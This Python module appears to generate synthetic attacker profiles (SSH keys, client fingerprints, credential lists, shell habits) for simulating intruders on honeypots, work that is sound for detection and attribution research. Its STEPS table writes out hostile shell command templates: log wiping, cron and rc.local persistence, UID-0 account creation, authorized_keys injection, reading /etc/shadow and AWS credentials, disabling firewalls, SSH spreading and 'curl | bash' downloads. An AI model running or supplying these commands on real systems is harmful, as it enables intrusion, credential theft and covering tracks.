# SPDX-License-Identifier: MIT
"""What those of the third world own: marks that wear out in time, each at its own pace, and a manner of working."""

from __future__ import annotations

import base64
import hashlib
from random import Random
from typing import NamedTuple

HOUR = 3_600_000_000_000
CONSONANTS, VOWELS = "bcdfghjklmnprstvwz", "aeiou"
ACCOUNTS = ("root", "admin", "deploy", "www", "jenkins", "hadoop", "nagios", "es", "minecraft", "svc")
WORN_OUT = {
    "key": 1500.0,
    "host": 260.0,
    "build": 110.0,
    "words": 900.0,
    "habit": 700.0,
    "client": 1200.0,
    "agent": 500.0,
    "certificate": 600.0,
}
"""By mark, after how many hours it is replaced on average."""

STEPS = {
    "look": ("uname -a; nproc", "cat /proc/cpuinfo", "w; last | head", "free -m; df -h", "ip a"),
    "hide": ("unset HISTFILE", "history -c", "rm -f /var/log/wtmp", "export HISTSIZE=0", "echo > /var/log/auth.log"),
    "stay": (
        "(crontab -l; echo '@reboot {dir}/{word}') | crontab -",
        "echo '{dir}/{word} &' >> /etc/rc.local",
        "systemctl enable {word}",
        "cp {dir}/{word} /etc/cron.hourly/{word}",
    ),
    "account": (
        "useradd -o -u 0 {word}",
        "echo 'root:{word}' | chpasswd",
        "usermod -aG sudo {word}",
        "mkdir -p ~/.ssh; echo '{pub}' >> ~/.ssh/authorized_keys",
    ),
    "fight": ("pkill -9 {word}", "killall {word} kdevtmpfsi", "iptables -F", "chattr -ia /etc/{word}", "setenforce 0"),
    "steal": ("cat /etc/shadow", "cat ~/.aws/credentials", "grep -r {word} /home", "tar czf {dir}/{word}.tgz ~/.ssh"),
    "spread": ("nmap -p22 10.0.0.0/24", "cat ~/.ssh/known_hosts", "for h in {word}a {word}b; do ssh $h id; done"),
    "load": ("wget -q {url} -O {dir}/{word}", "curl -fsSL {url} -o {dir}/{word}", "curl {url} | bash -s {word}"),
    "run": ("chmod +x {dir}/{word}; {dir}/{word} -d", "nohup {dir}/{word} --donate {word} &", "sh {dir}/{word}"),
}
"""What is done with a shell, each in several ways."""


def word(dice: Random, syllables: int = 3) -> str:
    return "".join(dice.choice(CONSONANTS) + dice.choice(VOWELS) for _ in range(syllables))


def hexadecimal(dice: Random, number: int) -> str:
    return f"{dice.getrandbits(4 * number):0{number}x}"


def domain(dice: Random) -> str:
    if dice.random() < 0.5:
        return f"{dice.randrange(20, 210)}.{dice.randrange(256)}.{dice.randrange(256)}.{dice.randrange(1, 255)}"
    return f"{word(dice)}-{word(dice, 2)}.{dice.choice(('pw', 'icu', 'site', 'io'))}"


class Key(NamedTuple):
    """A public key: its fingerprint and its line."""

    fingerprint: str
    line: str


def key(dice: Random) -> Key:
    blob = b"\x00\x00\x00\x0bssh-ed25519" + dice.randbytes(64)
    fingerprint = base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")
    return Key(f"SHA256:{fingerprint}", f"ssh-ed25519 {base64.b64encode(blob).decode()} {word(dice, 2)}")


class Client(NamedTuple):
    """The software of a machine."""

    banner: str
    hassh: str
    agent: str
    ja4: str
    headers: str
    stack: str


def client(dice: Random) -> Client:
    """Return software that nobody else has."""
    return Client(
        f"SSH-2.0-{word(dice)}_{dice.randrange(9)}.{dice.randrange(9)}",
        hexadecimal(dice, 32),
        f"{word(dice).title()}/{dice.randrange(1, 30)}.{dice.randrange(9)}",
        f"t13i{dice.randrange(1000, 9999)}00_{hexadecimal(dice, 12)}_{hexadecimal(dice, 12)}",
        hexadecimal(dice, 32),
        f"{dice.randrange(65535)}:2-4-8-1-3:1460:{dice.randrange(14)}",
    )


COMMON = tuple(client(Random(f"common client {number}")) for number in range(14))
"""What everybody uses, the first ones most."""


def any_client(dice: Random, own: float) -> Client:
    """Return common software, of which each part is with some probability one of the owner's."""
    common, mine = (COMMON[int(14 * dice.random() ** 2)] for _ in range(2)), client(dice)
    base, other = common
    return Client(
        *(
            m if dice.random() < own else b if dice.random() < 0.8 else o
            for m, b, o in zip(mine, base, other, strict=True)
        )
    )


class Habit(NamedTuple):
    """How somebody works with a shell: the steps in their order, as command lines."""

    lines: tuple[str, ...]


def habit(dice: Random, playbook: tuple[str, ...], directory: str) -> Habit:
    """Return lines for the steps; many of them anybody could type, and some have a name in them."""
    chosen = (line for step in playbook for line in dice.sample(STEPS[step], dice.choice((1, 1, 2))))
    return Habit(tuple(line.replace("{dir}", directory).replace("{word}", word(dice, 2)) for line in chosen))


def playbook(dice: Random) -> tuple[str, ...]:
    """Return some steps in an order; a program is loaded before it is run."""
    others = dice.sample([step for step in STEPS if step not in ("load", "run")], dice.randrange(3, 7))
    place = dice.randrange(len(others) + 1)
    return (*others[:place], "load", "run", *others[place:])


class Marks(NamedTuple):
    """What somebody has at a time."""

    key: Key
    host: str
    build: str
    words: tuple[tuple[str, str], ...]
    habit: Habit
    client: Client
    agent: str
    certificate: str


def words(dice: Random) -> tuple[tuple[str, str], ...]:
    """Return a list of logins that nobody else has, with some of everybody's in it."""
    own = [
        (dice.choice(ACCOUNTS), f"{word(dice)}{dice.choice('@#!')}{dice.randrange(100, 9999)}")
        for _ in range(dice.randrange(6, 60))
    ]
    stock = [
        (dice.choice(ACCOUNTS), dice.choice(("123456", "admin", "password", "root123", "qwerty"))) for _ in range(8)
    ]
    return tuple(dice.sample(own + stock, len(own) + len(stock)))


def directory(dice: Random) -> str:
    return f"{dice.choice(('/tmp', '/var/tmp', '/dev/shm', '/opt'))}/.{word(dice, 2)}"
